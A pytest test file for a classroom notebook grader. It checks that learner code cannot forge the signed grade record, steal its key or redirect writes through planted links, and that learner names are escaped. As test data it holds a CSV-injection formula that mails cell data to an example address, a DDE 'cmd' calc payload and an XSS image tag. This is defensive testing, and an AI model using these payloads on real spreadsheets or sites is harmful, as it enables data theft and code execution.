"""A class report that learner code cannot forge or redirect, and names that cannot break it (issues 24, 26, 29).

Learner code graded ``--unsandboxed`` runs as the instructor: it can write the report folder. These
tests play what an outside attack run did there (a forged record, a blocked partial file, links
planted in the report folder), and the names and sizes that stopped a run: each fails on the grader
before the signed record and the link-proof report folder, and passes now. They grade in the
bubblewrap sandbox where ``bwrap`` is found, ``--unsandboxed`` where it is not; the forger and the
key thief are played both ways, ``--unsandboxed`` only as a caller who is not root (as root,
unsandboxed learner code runs as a user of its own, which reaches neither the report nor the key).

Most classes here hand in no notebook at all, so nothing is graded and a run takes milliseconds; a
test that needs a verdict grades one or two notebooks.
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import signal
import stat
from pathlib import Path

import pytest
from class_submissions import (
    FILES,
    SANDBOX_FOUND,
    Handed,
    forging,
    hunting_the_key,
    instructor_config,  # noqa: F401  # the record's key in a folder of the tests' own
    needs_sandbox,
    right,
    starter,
    stealing_the_key,
)

from harness_lab.grading.class_command import grade_class_command
from harness_lab.grading.classroom import STATE_FILE, ClassResult, grade_class
from harness_lab.grading.notebook import NotebookGrade
from harness_lab.grading.record import KEY_BYTES, Record, key_path
from harness_lab.terminal import visible
from harness_lab.text import speaking, t

VICTIM_TEXT = "講師の大事なファイル"
UNSANDBOXED = not SANDBOX_FOUND  # how the tests grade unless they say
# learner code that must run as the caller to reach the caller's files
as_the_caller = pytest.mark.skipif(
    os.geteuid() == 0, reason="as root, --unsandboxed learner code runs as a user of its own"
)
BOTH_WAYS = pytest.mark.parametrize(
    "unsandboxed",
    [
        pytest.param(False, marks=needs_sandbox, id="sandboxed"),
        pytest.param(True, marks=as_the_caller, id="unsandboxed"),
    ],
)


def run(subs: Path, report: Path, *, unsandboxed: bool = UNSANDBOXED) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = grade_class_command(subs, report, stdout=out, stderr=err, unsandboxed=unsandboxed)
    return code, out.getvalue(), err.getvalue()


def grade(subs: Path, state: Path, **kwargs) -> ClassResult:
    return grade_class(subs, state, unsandboxed=UNSANDBOXED, **kwargs)


def read_csv(report: Path) -> list[dict]:
    with open(report / "grades.csv", encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def marks(report: Path) -> dict[str, tuple]:
    """learner -> the CSV's verdict on their level2 notebook (through ``message``), name and edition aside."""
    return {
        r["learner"]: tuple(v for k, v in r.items() if k not in ("learner", "edition"))
        for r in read_csv(report)
        if r["exercise"] == "level2"
    }


def outside(tmp_path: Path) -> tuple[Path, Path]:
    """An instructor's file and folder outside the report, which nothing may touch."""
    victim, folder = tmp_path / "important.txt", tmp_path / "notes"
    victim.write_text(VICTIM_TEXT, encoding="utf-8")
    folder.mkdir()
    (folder / "lecture.txt").write_text(VICTIM_TEXT, encoding="utf-8")
    return victim, folder


def untouched(victim: Path, folder: Path) -> None:
    assert victim.read_text(encoding="utf-8") == VICTIM_TEXT
    assert sorted(p.name for p in folder.iterdir()) == ["lecture.txt"]
    assert (folder / "lecture.txt").read_text(encoding="utf-8") == VICTIM_TEXT


def regular(path: Path) -> bool:
    return stat.S_ISREG(os.lstat(path).st_mode)


# --- the record: issue 26 item 1, issue 24 item 3 -----------------------------------------------


@BOTH_WAYS
def test_a_forging_notebook_graded_twice_gives_everyone_their_own_grade(tmp_path, unsandboxed):
    """Issue 26's "done when": the attack run's forger, in a class of three.

    Unsandboxed (as a caller who is not root) it reaches the report; in the sandbox it reaches nothing.
    """
    subs, report, keep = tmp_path / "subs", tmp_path / "report", tmp_path / "forgery.json"
    victim, folder = outside(tmp_path)
    places = {"report": report, "subs": subs, "keep": keep, "victim": victim, "folder": folder}
    right("level2").write(subs, "ann")
    Handed("level2", starter("level2")).write(subs, "sam")  # the same unsolved starter, without the attack
    forging("level2", "mal", ["ann", "mal"], places).write(subs, "mal")
    code, out, err = run(subs, report, unsandboxed=unsandboxed)
    assert code == 0, err
    first = marks(report)
    assert first["ann"][-4:-1] == ("3", "3", "ok")
    assert first["mal"] == first["sam"] and first["mal"][-4] != "3"  # the starter's own score
    assert keep.exists() == unsandboxed, "the forger did not run" if unsandboxed else "the forger got out"
    untouched(victim, folder)
    assert all(regular(report / name) for name in ("state.json", "index.html", "grades.csv"))
    assert stat.S_ISDIR(os.lstat(report / "feedback").st_mode)
    if not unsandboxed:  # the record is the grader's own: a rerun trusts all of it
        code, out, err = run(subs, report, unsandboxed=unsandboxed)
        assert code == 0 and err == "", err
        assert t("grade.class.done", total=3, seconds="@", graded=0, reused=3).split("@")[1] in out
        assert marks(report) == first
        return
    # the forged entries as the learner wrote them, as if they had landed after the grader's last save
    record = json.loads((report / STATE_FILE).read_text())
    record["entries"].update(json.loads(keep.read_text())["entries"])
    (report / STATE_FILE).write_text(json.dumps(record))
    code, out, err = run(subs, report, unsandboxed=unsandboxed)
    assert code == 0, err
    assert t("grade.class.record_untrusted", count=2, state=report / STATE_FILE) in err
    assert t("grade.class.done", total=3, seconds="@", graded=2, reused=1).split("@")[1] in out
    assert marks(report) == first
    untouched(victim, folder)


def test_a_record_entry_changed_by_anything_but_the_grader_is_graded_again(tmp_path):
    subs, state = tmp_path / "subs", tmp_path / "report" / STATE_FILE
    right("level1").write(subs, "kim")
    (tmp_path / "report").mkdir()
    assert grade(subs, state).rows[0].grade.passed
    record = json.loads(state.read_text())
    [entry] = record["entries"].values()
    for check in entry["grade"]["reports"][0]["checks"]:
        check[2] = False  # failed, with the notebook's right SHA-256 and the grader's version
    state.write_text(json.dumps(record))
    notes: list[str] = []
    result = grade(subs, state, on_note=notes.append)
    assert (result.graded, result.reused) == (1, 0) and result.rows[0].grade.passed
    assert notes == [t("grade.class.record_untrusted", count=1, state=state)]
    assert grade(subs, state).reused == 1  # the record the grader wrote is trusted again


def test_the_key_is_private_to_the_instructor_and_a_key_others_could_read_is_replaced(tmp_path):
    subs, state = tmp_path / "subs", tmp_path / "report" / STATE_FILE
    (subs / "kim").mkdir(parents=True)
    (tmp_path / "report").mkdir()
    grade(subs, state)
    key = key_path()
    assert key.parent == Path(os.environ["XDG_CONFIG_HOME"]) / "harness_lab"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and stat.S_IMODE(key.parent.stat().st_mode) == 0o700
    assert key.stat().st_size == KEY_BYTES and key.stat().st_uid == os.geteuid()
    assert not (tmp_path / "report").joinpath(key.name).exists()
    old = key.read_bytes()
    key.chmod(0o644)
    notes: list[str] = []
    grade(subs, state, on_note=notes.append)
    assert notes == [t("grade.class.key_replaced", path=key, why=t("grade.class.key_not_private", mode="0644"))]
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and key.read_bytes() != old
    key.unlink()
    key.symlink_to(tmp_path / "planted.key")  # a link is never followed, nor written through
    grade(subs, state)
    assert not key.is_symlink() and not (tmp_path / "planted.key").exists()


def test_a_state_json_linked_to_a_record_elsewhere_is_never_read(tmp_path):
    subs, report, elsewhere = tmp_path / "subs", tmp_path / "report", tmp_path / "forged.json"
    right("level1").write(subs, "kim")
    assert run(subs, report)[0] == 0
    record = json.loads((report / STATE_FILE).read_text())
    for entry in record["entries"].values():
        entry["grade"]["reports"][0]["checks"][0][2] = False
    elsewhere.write_text(json.dumps(record))
    (report / STATE_FILE).unlink()
    (report / STATE_FILE).symlink_to(elsewhere)
    code, out, err = run(subs, report)
    assert code == 0, err
    assert [r["score"] for r in read_csv(report) if r["notebook"]] == ["3"]
    assert t("grade.class.done", total=1, seconds="@", graded=1, reused=0).split("@")[1] in out
    assert regular(report / STATE_FILE) and json.loads(elsewhere.read_text()) == record
    assert t("grade.class.replaced", name=report / STATE_FILE) in err


@as_the_caller
def test_no_process_that_runs_learner_code_holds_the_key(tmp_path, monkeypatch):
    """The key is in the grading process alone: no grading host, even unsandboxed, holds a copy."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))  # a key no test has read yet
    subs, report, found = tmp_path / "subs", tmp_path / "report", tmp_path / "found.txt"
    (subs / "kim").mkdir(parents=True)
    assert run(subs, report, unsandboxed=True)[0] == 0  # makes the key, without this process ever reading its file
    hunting_the_key("level1", key_path(), found).write(subs, "kim")
    assert run(subs, report, unsandboxed=True)[0] == 0
    assert [r["score"] for r in read_csv(report) if r["notebook"]] == ["3"]
    counts = found.read_text().split()
    assert counts and set(counts) == {"0"}, counts


@BOTH_WAYS
def test_learner_code_that_steals_the_key_to_forge_the_record_changes_no_verdict(tmp_path, monkeypatch, unsandboxed):
    """Issue 26 item 1 against the key itself: an answer cell reads the key (the command's own path,
    ~/.config of the caller and of root), signs a record that passes it and fails a classmate, and
    writes it over state.json. In the sandbox it finds no key: its row says so, the classmate keeps
    3/3 and the rerun reuses the grader's own record. Unsandboxed, as a caller who is not root, the
    attack is live: it signs the forgery, which is why grading needs the sandbox."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))  # a key of this test's own
    subs, report = tmp_path / "subs", tmp_path / "report"
    (subs / "ann").mkdir(parents=True)
    assert run(subs, report, unsandboxed=unsandboxed)[0] == 0  # makes the key
    key = key_path().read_bytes()
    right("level2").write(subs, "ann")
    stealing_the_key("level2", "mal", ["ann", "mal"], key_path(), subs, report).write(subs, "mal")
    code, out, err = run(subs, report, unsandboxed=unsandboxed)
    assert code == 0, err
    first = marks(report)
    assert first["ann"][-4:-1] == ("3", "3", "ok")
    message = first["mal"][-1]
    assert "THEFT" in message, message  # the attack ran and says what it found
    if unsandboxed:
        assert "key stolen and the record forged" in message
        return
    assert "THEFT key not found" in message and key.hex() not in message
    report_text = "".join(p.read_text(encoding="utf-8") for p in report.rglob("*") if p.is_file())
    assert key.hex() not in report_text
    assert key_path().read_bytes() == key  # nor was the key replaced
    code, out, err = run(subs, report, unsandboxed=unsandboxed)
    assert code == 0 and err == "", err  # no entry failed its check: the record is the grader's own
    assert t("grade.class.done", total=2, seconds="@", graded=0, reused=2).split("@")[1] in out
    assert marks(report) == first


@pytest.mark.parametrize(
    ("key", "again"),
    [
        ("grade.class.internal", True),  # a host could not run the call
        ("grade.class.worker_died", True),  # a host died or stopped answering (issue 26 item 2)
        ("grade.class.host_altered", True),  # a call changed its host's limits, twice: maybe the machine did
        ("grade.nb.crashed", False),  # the notebook's own process died: a verdict on the notebook
    ],
)
def test_the_graders_own_failure_is_graded_again_and_a_verdict_is_kept(tmp_path, key, again):
    state, notes = tmp_path / STATE_FILE, []
    grade = NotebookGrade("kim/level1.ipynb", "level1", "error", error="…", key=key)
    record = Record(state, "v1", 60.0, bytearray(KEY_BYTES), notes.append)
    record.add("kim", "level1.ipynb", "abc", grade.as_plain(), "", "ja")
    record.save()
    record.close()
    rerun = Record(state, "v1", 60.0, bytearray(KEY_BYTES), notes.append)
    kept = rerun.reusable("kim", "level1.ipynb", "abc", "ja")
    rerun.close()
    assert notes == []
    assert (kept is None) == again, kept


@pytest.mark.parametrize("instructor", ["ja", "en"])
def test_the_hosts_grade_each_notebook_in_its_editions_language(tmp_path, monkeypatch, instructor):
    """A class graded by ``speaking`` alone (no HARNESS_LAB_LANG for a host to inherit): the host is
    told each notebook's edition with its call, so the hints and titles it writes are that edition's,
    whatever language the instructor reads the report (and the record is kept) in."""
    monkeypatch.delenv("HARNESS_LAB_LANG", raising=False)
    subs, state = tmp_path / "subs", tmp_path / "report" / STATE_FILE
    Handed("level1", starter("level1")).write(subs, "aki")
    english = starter("level1")
    english.metadata["harness_lab"]["lang"] = "en"
    Handed("level1", english).write(subs, "kim")
    (tmp_path / "report").mkdir()
    with speaking(instructor):
        rows = {r.learner: r for r in grade(subs, state).rows if r.notebook}
    for learner, edition in (("aki", "ja"), ("kim", "en")):
        with speaking(edition):
            titles = [t(f"grade.l1.c{n}.title") for n in (1, 2, 3)]
        assert [c.title for c in rows[learner].grade.reports[0].checks] == titles, learner
    entries = json.loads(state.read_text())["entries"]
    assert {where.split("/")[0]: entry["lang"] for where, entry in entries.items()} == {"aki": "ja", "kim": "en"}


@pytest.mark.parametrize("plant", ["folder", "fifo"])
def test_a_state_json_that_is_not_a_file_is_reported_and_replaced(tmp_path, plant):
    subs, report = tmp_path / "subs", tmp_path / "report"
    (subs / "kim").mkdir(parents=True)
    report.mkdir()
    state = report / STATE_FILE
    if plant == "folder":
        state.mkdir()
        (state / "inside").write_text("x")
    else:
        os.mkfifo(state)
    code, _, err = run(subs, report)
    assert code == 0, err
    assert regular(state) and json.loads(state.read_text())["entries"] == {}
    assert stat.S_IMODE(state.stat().st_mode) == 0o600
    assert t("grade.class.replaced", name=state) in err


# --- the report folder: issue 26 item 4, issue 29 item 5 -----------------------------------------


def test_links_and_folders_planted_in_the_report_are_never_followed(tmp_path):
    subs, report = tmp_path / "subs", tmp_path / "report"
    (subs / "kim").mkdir(parents=True)
    victim, folder = outside(tmp_path)
    assert run(subs, report)[0] == 0
    os.rename(report / "feedback", tmp_path / "feedback-before")
    (report / "feedback").symlink_to(folder)  # the report used to delete the target's *.txt as stale
    (report / "state.json.part").mkdir()  # every save of the record used to fail
    (report / "index.html.part").symlink_to(victim)  # the page used to be written into the victim
    (report / "grades.csv.part").symlink_to(victim)
    os.mkfifo(report / "odd.part")
    (report / "index.html").unlink()
    (report / "index.html").symlink_to(victim)
    code, _, err = run(subs, report)
    assert code == 0, err
    untouched(victim, folder)
    for name in ("state.json.part", "index.html.part", "grades.csv.part", "odd.part"):
        assert not os.path.lexists(report / name)
        assert t("grade.class.stray_removed", name=report / name) in err
    for name in ("feedback", "index.html"):
        assert t("grade.class.replaced", name=report / name) in err
    assert regular(report / "index.html") and stat.S_ISDIR(os.lstat(report / "feedback").st_mode)
    assert sorted(p.name for p in (report / "feedback").glob("*.txt")) == ["kim.txt"]
    assert t("grade.class.replaced", name=report / "feedback") in (report / "index.html").read_text(encoding="utf-8")


def test_the_report_deletes_only_feedback_files_it_wrote(tmp_path):
    subs, report = tmp_path / "subs", tmp_path / "report"
    for learner in ("kim", "lee"):
        (subs / learner).mkdir(parents=True)
    assert run(subs, report)[0] == 0
    (report / "feedback" / "mine.txt").write_text("講師のメモ", encoding="utf-8")
    (subs / "lee").rmdir()  # lee left the class: their file goes, the instructor's stays
    assert run(subs, report)[0] == 0
    assert sorted(p.name for p in (report / "feedback").glob("*.txt")) == ["kim.txt", "mine.txt"]


@pytest.mark.parametrize("kind", ["link", "world-writable"])
def test_a_report_folder_others_could_redirect_or_rewrite_is_refused(tmp_path, kind):
    subs, real = tmp_path / "subs", tmp_path / "real"
    (subs / "kim").mkdir(parents=True)
    real.mkdir()
    report = tmp_path / "report" if kind == "link" else real
    if kind == "link":
        report.symlink_to(real)
    else:
        report.chmod(0o777)
    code, _, err = run(subs, report)
    assert code == 2 and list(real.iterdir()) == []
    if kind == "link":
        assert err.strip() == t("grade.class.out_link", out=report, target=real)
    else:
        assert err.strip() == t("grade.class.out_not_private", out=report)


def test_a_new_report_folder_is_private(tmp_path):
    subs, report = tmp_path / "subs", tmp_path / "reports" / "week6"
    (subs / "kim").mkdir(parents=True)
    assert run(subs, report)[0] == 0
    assert stat.S_IMODE(report.stat().st_mode) == 0o700


def test_a_file_that_cannot_be_written_is_a_reported_problem(tmp_path):
    subs, report = tmp_path / "subs", tmp_path / "report"
    (subs / "kim").mkdir(parents=True)
    assert run(subs, report)[0] == 0
    page = (report / "index.html").stat().st_size
    limit = max((report / "grades.csv").stat().st_size, (report / STATE_FILE).stat().st_size) + 64
    assert page > limit
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    before = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG instead
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, hard))
    try:
        code, _, err = run(subs, report)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, before)
    assert code == 1
    assert t("grade.class.write_failed", name="index.html", error="@").split("@")[0] in err
    assert t("grade.class.report_incomplete", count=1, out=report) in err
    assert [r["learner"] for r in read_csv(report)] == ["kim", "kim"]
    assert [p.name for p in report.iterdir() if p.name.endswith(".part")] == []


# --- names and sizes: issue 24 item 4, issue 26 items 5-6, issue 29 item 6 ------------------------

FORMULAS = ['=HYPERLINK("mailto:x@example.com?body="&A1,"grade")', "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx"]


def test_a_learner_named_like_a_formula_is_text_in_the_csv_and_escaped_in_the_page(tmp_path):
    subs, report = tmp_path / "subs", tmp_path / "report"
    for name in [*FORMULAS, "<img src=x onerror=alert(1)>"]:
        (subs / name).mkdir(parents=True)
    (subs / "kim").mkdir()
    (subs / "kim" / "=1+1.ipynb").write_text("{", encoding="utf-8")  # a notebook named like one, too
    assert run(subs, report)[0] == 0
    rows = read_csv(report)
    # a control character is shown as an escape (no raw byte reaches the file), the rest kept as text
    shown = [visible(name) for name in FORMULAS]
    assert {r["learner"] for r in rows} >= {"'" + name if name[:1] in "=+-@" else name for name in shown}
    assert [r["notebook"] for r in rows if r["notebook"]] == ["'=1+1.ipynb"]
    assert not [cell for r in rows for cell in r.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    page = (report / "index.html").read_text(encoding="utf-8")
    assert "<img" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page


# Excel in Japanese locales reads a formula after a full-width = + - or @ too (OWASP's testing guide, "CSV
# injection"; OWASP www-community issue 1088: ＝cmd|' /C calc'!A0); the small forms fold the same way.
WIDE_FORMULAS = ["＝cmd|' -C calc'!A0", "＋1＋1", "－1＋1", "＠SUM(A1)", "﹦1+1"]


def test_a_learner_named_like_a_formula_in_full_width_is_text_in_the_csv(tmp_path):
    subs, report = tmp_path / "subs", tmp_path / "report"
    for name in WIDE_FORMULAS:
        (subs / name).mkdir(parents=True)
    assert run(subs, report)[0] == 0
    # were written as they are, for a spreadsheet to run
    assert {r["learner"] for r in read_csv(report)} == {"'" + name for name in WIDE_FORMULAS}


def test_long_odd_and_clashing_learner_names_each_get_their_own_feedback_file(tmp_path):
    subs, report = tmp_path / "subs", tmp_path / "report"
    names = ["a" * 250, "b" * 240 + "ü" * 5, "Ann", "ann", "x y", "x_y", "a.b", "たろう"]
    for name in names:
        (subs / name).mkdir(parents=True)
    os.mkdir(os.fsencode(subs) + b"/caf\xe9")  # a name that is not UTF-8
    code, _, err = run(subs, report)
    assert code == 0, err
    files = sorted((report / "feedback").glob("*.txt"))
    assert len(files) == len(names) + 1
    assert all(len(os.fsencode(p.name)) <= 140 for p in files)
    titles = {p.read_text(encoding="utf-8").splitlines()[0] for p in files}
    shown = [*names, "caf\\udce9"]  # the undecodable byte shown as an escape
    assert titles == {t("grade.class.feedback_title", learner=name) for name in shown}
    assert {p.name for p in files} >= {"x_y.txt", "a.b.txt", "たろう.txt"}
    assert {r["learner"] for r in read_csv(report)} == set(shown)


def test_a_learner_folder_whose_name_is_not_utf8_is_graded_and_recorded(tmp_path):
    subs, report = tmp_path / "subs", tmp_path / "report"
    folder = Path(os.fsdecode(os.fsencode(subs) + b"/caf\xe9"))
    right("level1").write(subs, folder.name)
    code, out, err = run(subs, report)
    assert code == 0, err
    [row] = [r for r in read_csv(report) if r["exercise"] == "level1"]
    assert (row["learner"], row["score"]) == ("caf\\udce9", "3")
    code, out, err = run(subs, report)
    assert t("grade.class.done", total=1, seconds="@", graded=0, reused=1).split("@")[1] in out


def test_an_unreadable_notebook_is_a_row_of_the_exercise_its_name_tells_not_a_missing_one(tmp_path):
    subs, report = tmp_path / "subs", tmp_path / "report"
    (subs / "kim").mkdir(parents=True)
    (subs / "kim" / FILES["level1"]).write_text('{"cells": [', encoding="utf-8")
    assert run(subs, report)[0] == 0
    rows = [(r["exercise"], r["notebook"], r["status"], r["hint_keys"]) for r in read_csv(report)]
    assert rows == [
        ("level1", FILES["level1"], "error", "grade.nb.unreadable"),
        ("level2", "", "missing", "grade.class.missing"),
    ]
    feedback = (report / "feedback" / "kim.txt").read_text(encoding="utf-8")
    assert t("grade.class.missing", exercise="level1") not in feedback
    assert t("grade.class.missing", exercise="level2") in feedback
